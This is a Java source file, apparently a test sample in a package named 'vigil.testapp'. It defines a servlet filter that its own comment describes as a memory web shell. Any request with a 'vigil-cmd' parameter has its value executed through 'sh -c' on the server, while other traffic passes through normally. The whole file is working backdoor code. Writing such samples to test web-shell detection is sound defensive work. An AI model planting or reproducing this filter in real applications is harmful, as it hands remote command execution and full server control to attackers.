package dev.vigil.testapp;

import jakarta.servlet.Filter;
import jakarta.servlet.FilterChain;
import jakarta.servlet.ServletException;
import jakarta.servlet.ServletRequest;
import jakarta.servlet.ServletResponse;

import java.io.IOException;

/** A memory web shell's filter: any request with a "vigil-cmd" parameter runs it; the rest pass through. */
public final class MemoryFilter implements Filter {
    @Override
    public void doFilter(ServletRequest req, ServletResponse resp, FilterChain chain) throws IOException, ServletException {
        String cmd = req.getParameter("vigil-cmd");
        if (cmd == null) {
            chain.doFilter(req, resp);
            return;
        }
        try {
            resp.getWriter().print("exit " + Runtime.getRuntime().exec(new String[] {"sh", "-c", cmd}).waitFor());
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
